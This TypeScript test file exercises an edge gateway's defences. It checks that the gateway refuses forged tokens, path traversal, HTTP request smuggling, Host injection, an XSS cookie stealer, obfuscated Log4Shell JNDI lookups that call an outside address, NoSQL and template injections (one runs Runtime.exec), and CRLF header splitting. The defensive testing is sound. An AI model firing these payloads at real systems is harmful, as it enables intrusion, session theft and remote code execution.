// What an outside attack suite tries against the edge, through real sockets: token twins and
// tokens from the future, dot segments hidden behind encoded slashes, request smuggling and Host
// tricks below the pipeline, payloads behind one stray non-UTF-8 byte, Log4Shell lookups, an
// IPv6 client hopping addresses to reset its budgets, tokens of another type, NoSQL operators,
// template expressions and response splitting. Each attempt is refused (RFC 9457
// problem+json), recorded as a security event, and never reaches the function.
//
// The platform trusts 127.0.0.1 as a proxy, so a test that spends an address's auth-failure
// budget speaks for its own address in X-Forwarded-For and spends nobody else's.
import assert from "node:assert/strict";
import { connect } from "node:net";
import { after, before, describe, it } from "node:test";
import { AUDIENCE, forge, ISSUER, startJwksServer, type JwksServer } from "../edge/auth/jwks-server.ts";
import { json, up, writeApp, type RunningPlatform } from "./harness.ts";
import { eventOf, securityEvents } from "./security-events.ts";

const HANDLER = "export const handler = async (event, ctx) => { console.log(`ran ${event.requestContext.requestId}`); return { who: ctx.identity?.subject ?? null, params: event.pathParameters ?? null }; };\n";

function app(jwksUrl: string): string {
  return `app: attacked
jwt: { issuer: "${ISSUER}", audience: ${AUDIENCE}, jwksUrl: "${jwksUrl}", algorithms: [RS256, ES256] }
limits:
  perIp: off
  authFailuresPerIp: { rate: "1/m", burst: 2 }
functions:
  api:
    handler: api.js
    triggers:
      - http: { method: GET, path: /me, auth: jwt }
      - http: { method: GET, path: /keyed, auth: apiKey }
      - http: { method: POST, path: /notes, auth: none }
      - http: { method: GET, path: "/raw/{name}", auth: none, waf: off }
`;
}

/** One request written byte for byte on its own connection; resolves with all the server sent once it closes. */
function rawRequest(port: number, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, "127.0.0.1");
    let answer = "";
    socket.on("data", (d: Buffer) => (answer += d.toString("latin1")));
    socket.on("error", reject);
    socket.on("close", () => resolve(answer));
    socket.end(request);
  });
}

describe("the edge under an outside attack suite", () => {
  let jwks: JwksServer;
  let p: RunningPlatform;
  let port: number;
  before(async () => {
    jwks = await startJwksServer();
    p = await up(writeApp({ "bulwark.yaml": app(jwks.url), "api.js": HANDLER }), ["--trust-proxy", "127.0.0.1"]);
    port = Number(new URL(p.url).port);
  });
  after(async () => {
    await p?.stop();
    await jwks?.close();
  });

  const from = (ip: string, path: string, init: RequestInit = {}) => p.fetch(path, { ...init, headers: { "x-forwarded-for": ip, ...(init.headers as Record<string, string>) } });

  /** Request ids of every refusal, to show none of them reached the function. */
  const refused: string[] = [];

  async function refusedWith(res: Response, status: number, code: string, type: string) {
    refused.push(res.headers.get("x-request-id") ?? "");
    assert.equal(res.status, status);
    assert.match(res.headers.get("content-type") ?? "", /^application\/problem\+json/);
    assert.equal((await json(res)).code, code);
    const event = await eventOf(p, res, type);
    assert.ok(event, `no ${type} event for the refusal`);
    return event;
  }

  /** The status line, problem body and recorded event of a raw exchange the edge answered and closed. */
  async function rawRefusal(request: string) {
    const answer = await rawRequest(port, request);
    const [head = "", body = ""] = answer.split("\r\n\r\n");
    const requestId = /^x-request-id: (\S+)$/im.exec(head)?.[1];
    const events = await securityEvents(p);
    return {
      statuses: [...answer.matchAll(/^HTTP\/1\.1 (\d{3})/gm)].map((m) => Number(m[1])),
      head,
      problem: JSON.parse(body) as Record<string, unknown>,
      event: events.find((e) => e.requestId === requestId),
    };
  }

  it("refuses other spellings of a valid token (padding, unused signature bits), also once it is cached", async () => {
    const honest = await jwks.sign({});
    const twins = forge.twins(honest);
    for (const [i, token] of twins.entries()) {
      const event = await refusedWith(await from(`198.51.100.${i + 1}`, "/me", { headers: { authorization: `Bearer ${token}` } }), 401, "BWK_UNAUTHORIZED", "auth.failure");
      assert.equal(event.reason, "malformed");
    }
    assert.equal((await from("198.51.100.3", "/me", { headers: { authorization: `Bearer ${honest}` } })).status, 200);
    const cached = await refusedWith(await from("198.51.100.4", "/me", { headers: { authorization: `Bearer ${twins[0]}` } }), 401, "BWK_UNAUTHORIZED", "auth.failure");
    assert.equal(cached.reason, "malformed");
  });

  it("refuses a token issued in the future (iat beyond the clock skew)", async () => {
    const token = await jwks.sign({}, { iat: Math.floor(Date.now() / 1000) + 86_400 });
    const event = await refusedWith(await from("198.51.100.5", "/me", { headers: { authorization: `Bearer ${token}` } }), 401, "BWK_UNAUTHORIZED", "auth.failure");
    assert.equal(event.reason, "not yet valid");
  });

  const H = () => `Host: 127.0.0.1:${port}\r\n`;

  // Written raw: a URL parser on the client's side would resolve the dot segments before sending.
  it("records dot segments the router refuses as traversal, also hidden behind an encoded slash on a waf: off route", async () => {
    for (const path of ["/raw/..%2F..%2Fetc%2Fpasswd", "/raw/%2e%2e", "/raw/..%5C..%5Cboot.ini", "/raw/a%00.png", "/raw/../../etc/passwd"]) {
      const r = await rawRefusal(`GET ${path} HTTP/1.1\r\n${H()}Connection: close\r\n\r\n`);
      assert.deepEqual([r.statuses, r.problem["code"], r.event?.type, r.event?.details?.["class"]], [[403], "BWK_WAF_BLOCKED", "waf.match", "traversal"], path);
    }
    assert.deepEqual(await json(await p.fetch("/raw/v1.2%2Fnotes")), { who: null, params: { name: "v1.2/notes" } });
  });

  const smuggles: Array<[string, () => string, string]> = [
    ["Content-Length and Transfer-Encoding (CL.TE)", () => `POST /notes HTTP/1.1\r\n${H()}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /me HTTP/1.1\r\n${H()}\r\n`, "HPE_INVALID_TRANSFER_ENCODING"],
    ["two Content-Lengths", () => `POST /notes HTTP/1.1\r\n${H()}Content-Length: 3\r\nContent-Length: 40\r\n\r\nabcGET /me HTTP/1.1\r\n${H()}\r\n`, "HPE_UNEXPECTED_CONTENT_LENGTH"],
    ["an obs-folded Transfer-Encoding", () => `POST /notes HTTP/1.1\r\n${H()}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n`, "HPE_INVALID_HEADER_TOKEN"],
    ["a chunk size that is no number", () => `POST /notes HTTP/1.1\r\n${H()}Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`, "HPE_INVALID_CHUNK_SIZE"],
  ];
  for (const [name, request, reason] of smuggles) {
    it(`refuses a request with ${name}: one 400 problem, connection closed, request.malformed recorded`, async () => {
      const r = await rawRefusal(request());
      assert.deepEqual(r.statuses, [400], "the smuggled request was never answered");
      assert.match(r.head, /^content-type: application\/problem\+json$/im);
      assert.match(r.head, /^connection: close$/im);
      assert.equal(r.problem["code"], "BWK_BAD_REQUEST");
      assert.deepEqual([r.event?.type, r.event?.reason, r.event?.clientIp], ["request.malformed", reason, "127.0.0.1"]);
    });
  }

  it("refuses a header section too large with 431 as a problem", async () => {
    const r = await rawRefusal(`GET /raw/x HTTP/1.1\r\n${H()}X-Pad: ${"a".repeat(20_000)}\r\n\r\n`);
    assert.deepEqual([r.statuses, r.problem["code"], r.event?.type], [[431], "BWK_HEADERS_TOO_LARGE", "request.malformed"]);
  });

  for (const [name, headers, reason] of [
    ["two Host headers", () => `${H()}Host: evil.example\r\n`, "two Host headers"],
    ["no Host header", () => "", "no Host header"],
    ["a Host that is no host[:port]", () => "Host: evil.example/reset?x=\r\n", "a Host that is no host[:port]"],
  ] as const) {
    it(`refuses ${name} (Host header injection, RFC 9112 §3.2)`, async () => {
      const r = await rawRefusal(`GET /raw/x HTTP/1.1\r\n${headers()}Connection: close\r\n\r\n`);
      assert.deepEqual([r.statuses, r.problem["code"], r.event?.type, r.event?.reason], [[400], "BWK_BAD_REQUEST", "request.malformed", reason]);
    });
  }

  it("reads a text body that is not UTF-8: a payload behind one stray byte is still blocked", async () => {
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "text/csv; charset=iso-8859-1"]) {
      const body = Buffer.concat([Buffer.from("note=<script>alert(document.cookie)</script>"), Buffer.from([0xff])]);
      const event = await refusedWith(await p.fetch("/notes", { method: "POST", headers: { "content-type": type }, body }), 403, "BWK_WAF_BLOCKED", "waf.match");
      assert.equal(event.ruleId, "xss-001", type);
    }
  });

  it("blocks Log4Shell lookups, nested to hide the word jndi, in any header", async () => {
    for (const payload of ["${jndi:ldap://203.0.113.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}"]) {
      const event = await refusedWith(await p.fetch("/notes", { method: "POST", headers: { "x-api-version": payload } }), 403, "BWK_WAF_BLOCKED", "waf.match");
      assert.equal(event.ruleId, "cmdi-011", payload);
    }
  });

  it("counts an IPv6 client's failed authentications by its /64: hopping addresses does not reset the budget", async () => {
    const guess = { headers: { authorization: `Bearer bwk_${"A".repeat(43)}` } };
    // A budget of 2: the third failure is the one that empties it and blocks the network.
    for (const host of ["1", "2", "3"]) assert.equal((await from(`2001:db8:77:1::${host}`, "/keyed", guess)).status, 401);
    const refused = await from("2001:db8:77:1:dead:beef:0:4", "/keyed", guess);
    const event = await refusedWith(refused, 429, "BWK_RATE_LIMITED", "rate.limited");
    assert.equal(event.details?.["limit"], "authFailuresPerIp");
    assert.equal((await from("2001:db8:77:2::1", "/raw/x")).status, 200, "the next /64 is another client");
  });

  it("refuses a token the issuer signed for another purpose (typ dpop+jwt, secevent+jwt) as an access token", async () => {
    for (const [i, typ] of ["dpop+jwt", "application/secevent+jwt"].entries()) {
      const token = await jwks.sign({ roles: ["admin"] }, { typ });
      const event = await refusedWith(await from(`198.51.100.${20 + i}`, "/me", { headers: { authorization: `Bearer ${token}` } }), 401, "BWK_UNAUTHORIZED", "auth.failure");
      assert.deepEqual([event.reason, event.severity], ["wrong token type", "high"], typ);
    }
    assert.equal((await from("198.51.100.22", "/me", { headers: { authorization: `Bearer ${await jwks.sign({}, { typ: "at+jwt" })}` } })).status, 200);
  });

  const post = (body: unknown) => ({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  const injections: Array<[string, string, RequestInit, string]> = [
    ["NoSQL operators as keys in a login body", "/notes", post({ username: "admin", password: { $ne: null } }), "nosqli-002"],
    ["a $where operator that runs JavaScript in the database", "/notes", post({ $where: "sleep(5000) || true" }), "nosqli-001"],
    ["qs-style NoSQL operators in the query", "/me?user%5B%24ne%5D=x&password%5B%24regex%5D=.*", {}, "nosqli-002"],
    ["a Jinja expression reaching Python internals", "/notes", post({ note: "{{''.__class__.__mro__[1].__subclasses__()}}" }), "ssti-001"],
    ["a Spring EL lookup of java.lang.Runtime in a header", "/notes", { method: "POST", headers: { "x-template": "*{T(java.lang.Runtime).getRuntime().exec('id')}" } }, "ssti-002"],
    ["an ERB scriptlet", "/notes", post({ note: "<%= 7*7 %>" }), "ssti-003"],
    ["a Set-Cookie header smuggled into the query (response splitting)", "/me?lang=en%0d%0aSet-Cookie:%20admin=1", {}, "crlf-001"],
    ["a Location header smuggled into the path", "/go%0d%0aLocation:%20https://evil.example/", {}, "crlf-001"],
    ["a header line smuggled into a header value", "/notes", { method: "POST", headers: { "x-return-to": "/home%0d%0aSet-Cookie:admin=1" } }, "crlf-001"],
  ];
  for (const [name, path, init, ruleId] of injections) {
    it(`blocks ${name}`, async () => {
      const event = await refusedWith(await p.fetch(path, init), 403, "BWK_WAF_BLOCKED", "waf.match");
      assert.equal(event.ruleId, ruleId);
    });
  }

  it("never ran the function for a refused request", () => {
    const logs = p.cli(["logs", "api"]).stdout;
    assert.ok(refused.length > 0 && /ran /.test(logs), "the function logs what it runs");
    for (const id of refused) assert.ok(!logs.includes(id), `request ${id} reached the function`);
  });
});
